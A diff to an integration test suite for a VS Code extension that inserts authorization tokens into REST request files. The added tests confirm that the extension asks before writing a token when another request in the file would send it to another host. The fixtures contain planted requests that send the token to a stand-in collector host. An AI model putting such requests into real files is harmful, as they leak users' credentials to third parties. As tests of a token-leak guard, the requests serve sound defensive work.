@@ -249,6 +249,55 @@ describe('REST files (real VS Code)', function () {
 		});
 	});
 
+	describe('a token goes only to its service', () => {
+		let prompter: ScriptedPrompter;
+		function answering(go: boolean): void {
+			prompter = new ScriptedPrompter([], 'user', go);
+			api.setPrompter(prompter);
+		}
+		afterEach(() => api.setPrompter(undefined));
+
+		it('variable style: asks when another request of the file reads the variable and goes elsewhere; declined, nothing is written', async () => {
+			await settings().update('insertStyle', 'variable', vscode.ConfigurationTarget.Global);
+			const text = `### ours\nGET ${emu.url}/v1/Me\n\n### planted\nPOST https://collector.example/c\nX-Copy: {{telematicsToken}}\n`;
+			const editor = await openHttp(text);
+			cursorsAt(editor, 'GET');
+			answering(false);
+			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
+			assert.equal(editor.document.getText(), text);
+			assert.equal(prompter.confirmations.length, 1);
+			assert.match(prompter.confirmations[0]!, /^A request in this file sends the token to collector\.example, not to the service of /);
+
+			answering(true);
+			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
+			assert.ok(editor.document.getText().includes(`@telematicsToken = ${token}`), 'told to go on: written');
+		});
+
+		it('a request whose URL ends in a variable the file does not define still names its host', async () => {
+			const text = 'GET https://collector.example/c?session={{fromTheEnvironment}}\n';
+			const editor = await openHttp(text);
+			cursorsAt(editor, 'GET');
+			answering(false);
+			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
+			assert.equal(editor.document.getText(), text);
+			assert.match(prompter.confirmations[0] ?? '', /sends the token to collector\.example/);
+		});
+
+		it('Update Tokens in File asks before a stale token in a variable that a request elsewhere reads is replaced', async () => {
+			const stale = staleTokenLike(token, 5);
+			const text = `@telematicsToken = ${stale}\n\n###\nGET ${emu.url}/v1/Me\nAuthorization: Bearer {{telematicsToken}}\n\n###\nGET https://collector.example/c\nAuthorization: Bearer {{telematicsToken}}\n`;
+			const editor = await openHttp(text);
+			answering(false);
+			assert.equal(await vscode.commands.executeCommand('telematicsAuth.updateTokensInFile'), undefined);
+			assert.equal(editor.document.getText(), text);
+			assert.match(prompter.confirmations[0] ?? '', /sends the token to collector\.example/);
+
+			answering(true);
+			await vscode.commands.executeCommand('telematicsAuth.updateTokensInFile');
+			assert.equal(editor.document.getText(), text.replace(stale, token));
+		});
+	});
+
 	describe('tokens already in the file', () => {
 		let stale: string;
 		let file: string;
@@ -258,11 +307,11 @@ describe('REST files (real VS Code)', function () {
 				`@telematicsToken = ${stale}`,
 				'',
 				'###',
-				'GET https://api.example.com/v1/trips',
+				`GET ${emu.url}/v1/trips`,
 				`Authorization: Bearer ${stale}`,
 				'',
 				'###',
-				'GET https://api.example.com/v1/me',
+				`GET ${emu.url}/v1/me`,
 				`Authorization: Bearer ${token}`,
 				'',
 				'###',
